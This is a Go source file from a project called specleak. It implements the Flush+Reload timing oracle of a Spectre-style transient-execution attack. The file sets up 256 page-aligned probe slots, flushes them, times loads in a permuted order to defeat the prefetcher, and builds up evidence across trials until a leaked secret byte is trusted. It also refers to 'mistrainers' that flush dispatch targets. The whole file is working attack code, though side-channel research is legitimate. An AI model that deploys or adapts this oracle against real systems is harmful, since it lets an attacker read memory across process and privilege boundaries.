// ════════════════════════════════════════════════════════════════════════════════════════════════
// Timing Oracle
// ────────────────────────────────────────────────────────────────────────────────────────────────
// Project: specleak
// Component: Flush+Reload oracle and confidence-accumulating scorer
//
// Description:
//   256 page-disjoint slots, one per byte value. A transient instruction sequence
//   loads slot[secret]; afterwards the slot reads faster than its neighbours. The scorer
//   turns one noisy latency vector per trial into evidence that persists across trials
//   until one candidate is corroborated often enough to trust.
//
// Features:
//   - Page-aligned slot block carved out of a single []Slot allocation
//   - Fixed secret-independent probe permutation against the stride prefetcher
//   - One slot per page so no prefetcher pulls in a slot that was not read
//   - Evidence table that survives Flush and is discarded only by Reset
//   - Pure Score entry point for injected latencies
//
// ════════════════════════════════════════════════════════════════════════════════════════════════

package oracle

import (
	"errors"
	"unsafe"

	"specleak/constants"
	"specleak/utils"
)

// ErrThreshold is returned for a negative confidence threshold.
var ErrThreshold = errors.New("oracle: confidence threshold must be non-negative")

// ═══════════════════════════════════════════════════════════════════════════════════════════════
// CORE DATA STRUCTURES
// ═══════════════════════════════════════════════════════════════════════════════════════════════

// Backend is the cache-timing machine the oracle runs on: real hardware or the simulator.
type Backend interface {
	FlushLine(addr uintptr)          // evict one line from every level
	Fence()                          // order memory ops, close the speculation window
	ReadLatency(addr uintptr) uint64 // timed single-byte load
	Touch(addr uintptr)              // untimed single-byte load
}

// Slot is one oracle entry padded to a full page. Only the first line is ever
// flushed or read.
type Slot struct {
	b [constants.SlotStride]byte
}

// Sample is one probe: which slot was read and how long it took.
type Sample struct {
	Index   uint8
	Latency uint64
}

// Latencies holds one measured round trip per slot, indexed by byte value.
type Latencies [constants.OracleSize]uint64

// Oracle owns the slot block and the evidence table for one leak attempt at a time.
//
//go:align 64
type Oracle struct {
	// CACHE LINE 1: touched every trial
	backend   Backend // 16B - flush/probe target
	base      uintptr // 8B - address of slot 0, page aligned
	threshold int     // 8B - evidence needed to accept a candidate
	hitCursor int     // 8B - next probe step for AddRotatingHit
	_         [24]byte

	// Measurement scratch, rewritten by every ProbeAll
	latency Latencies
	samples [constants.OracleSize]Sample

	// EvidenceTable; survives Flush, cleared by Reset
	evidence [constants.OracleSize]int

	slots []Slot // backing allocation; base points inside it
}

// New allocates a page-aligned oracle on backend.
// threshold is the evidence a candidate must strictly exceed; 0 accepts the first hit.
func New(backend Backend, threshold int) (*Oracle, error) {
	if backend == nil {
		panic("oracle: nil backend")
	}
	if threshold < 0 {
		return nil, ErrThreshold
	}

	// One spare slot absorbs the shift up to the next page boundary.
	slots := make([]Slot, constants.OracleSize+1)
	start := uintptr(unsafe.Pointer(&slots[0]))
	pad := (constants.PageSize - start&(constants.PageSize-1)) & (constants.PageSize - 1)

	// Write every byte so no slot is backed by the shared zero page.
	for i := range slots {
		for j := range slots[i].b {
			slots[i].b[j] = 1
		}
	}

	return &Oracle{
		backend:   backend,
		base:      start + pad,
		threshold: threshold,
		slots:     slots,
	}, nil
}

// ═══════════════════════════════════════════════════════════════════════════════════════════════
// SLOT ACCESS
// ═══════════════════════════════════════════════════════════════════════════════════════════════

// SlotAddr returns the address of slot b.
//
//go:nosplit
//go:inline
func (o *Oracle) SlotAddr(b byte) uintptr {
	return o.base + uintptr(b)*constants.SlotStride
}

// Touch loads slot b. This is the side effect a transient body leaves behind.
//
//go:nosplit
//go:inline
func (o *Oracle) Touch(b byte) {
	o.backend.Touch(o.SlotAddr(b))
}

// Backend returns the machine the oracle measures on.
func (o *Oracle) Backend() Backend { return o.backend }

// Threshold returns the confidence threshold.
func (o *Oracle) Threshold() int { return o.threshold }

// ═══════════════════════════════════════════════════════════════════════════════════════════════
// FLUSH & PROBE
// ═══════════════════════════════════════════════════════════════════════════════════════════════

// Flush evicts every slot and fences. Evidence is untouched.
//
//go:nosplit
func (o *Oracle) Flush() {
	for i := 0; i < constants.OracleSize; i++ {
		o.backend.FlushLine(o.base + uintptr(i)*constants.SlotStride)
	}
	o.backend.Fence()
}

// ProbeAll times one load per slot in permuted order.
// The returned slice is in probe order and aliases oracle scratch; it is valid
// until the next ProbeAll.
func (o *Oracle) ProbeAll() []Sample {
	for i := 0; i < constants.OracleSize; i++ {
		idx := utils.MixIndex(i)
		lat := o.backend.ReadLatency(o.base + uintptr(idx)*constants.SlotStride)
		o.latency[idx] = lat
		o.samples[i] = Sample{Index: uint8(idx), Latency: lat}
	}
	return o.samples[:]
}

// Latency returns the last measured latency of slot b.
func (o *Oracle) Latency(b byte) uint64 { return o.latency[b] }

// ═══════════════════════════════════════════════════════════════════════════════════════════════
// SCORING
// ═══════════════════════════════════════════════════════════════════════════════════════════════

// RecomputeScores probes every slot and folds the result into the evidence table.
// baseline must be a byte known not to be the secret at this offset.
func (o *Oracle) RecomputeScores(baseline byte) (bool, byte) {
	o.ProbeAll()
	return o.Score(&o.latency, baseline)
}

// Score folds one latency vector into the evidence table.
// Every slot strictly faster than the baseline slot, other than the baseline
// itself, gains one point. A warm baseline is still counted.
func (o *Oracle) Score(lat *Latencies, baseline byte) (bool, byte) {
	safe := lat[baseline]
	for i := 0; i < constants.OracleSize; i++ {
		if lat[i] < safe && i != int(baseline) {
			o.evidence[i]++
		}
	}
	best, n := o.Best()
	return n > o.threshold, best
}

// AddArtificialHit credits slot b with one point without measuring anything.
func (o *Oracle) AddArtificialHit(b byte) (bool, byte) {
	o.evidence[b]++
	best, n := o.Best()
	return n > o.threshold, best
}

// AddRotatingHit forces a real load on the next slot of the probe permutation
// and rescores with that slot as baseline. Used to check a backend end to end.
func (o *Oracle) AddRotatingHit() (bool, byte) {
	idx := byte(utils.MixIndex(o.hitCursor))
	o.hitCursor = (o.hitCursor + 1) & (constants.OracleSize - 1)
	o.Touch(idx)
	return o.RecomputeScores(idx)
}

// Best returns the candidate with the most evidence. Ties go to the lowest index.
//
//go:nosplit
func (o *Oracle) Best() (byte, int) {
	best := 0
	for i := 1; i < constants.OracleSize; i++ {
		if o.evidence[i] > o.evidence[best] {
			best = i
		}
	}
	return byte(best), o.evidence[best]
}

// RunnerUp returns the strongest candidate other than Best, lowest index on ties.
func (o *Oracle) RunnerUp() (byte, int) {
	best, _ := o.Best()
	second := -1
	for i := 0; i < constants.OracleSize; i++ {
		if i == int(best) {
			continue
		}
		if second < 0 || o.evidence[i] > o.evidence[second] {
			second = i
		}
	}
	return byte(second), o.evidence[second]
}

// Evidence returns the accumulated score of candidate b.
func (o *Oracle) Evidence(b byte) int { return o.evidence[b] }

// EvidenceTable returns a copy of every candidate's score.
func (o *Oracle) EvidenceTable() [constants.OracleSize]int { return o.evidence }

// Reset discards the evidence table once a leak completes.
func (o *Oracle) Reset() {
	o.evidence = [constants.OracleSize]int{}
	o.hitCursor = 0
}

// FlushRange evicts every line overlapping [start, end) on backend and fences once.
// The mistrainers use it on dispatch targets and unwound stack frames.
//
//go:nosplit
func FlushRange(backend Backend, start, end uintptr) {
	for p := start &^ (constants.CacheLineSize - 1); p < end; p += constants.CacheLineSize {
		backend.FlushLine(p)
	}
	backend.Fence()
}
